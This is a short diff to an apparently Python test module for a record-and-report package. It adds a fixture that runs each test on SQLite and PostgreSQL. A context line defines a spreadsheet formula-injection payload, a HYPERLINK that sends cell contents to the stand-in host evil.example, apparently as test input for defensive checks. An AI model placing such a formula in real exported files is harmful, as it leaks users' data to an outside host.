@@ -13,6 +13,13 @@ from screener.core.record import decisions, report, runs
 from screener.core.record.report import ReportError
 from screener.core.record.store import Store
 
+
+@pytest.fixture(autouse=True)
+def _on_both_backends(backend: str) -> str:
+    """Every test here runs on the embedded SQLite store and on a team PostgreSQL database."""
+    return backend
+
+
 INJECTED = '=HYPERLINK("http://evil.example/x?"&A1,"Click")'
 
 
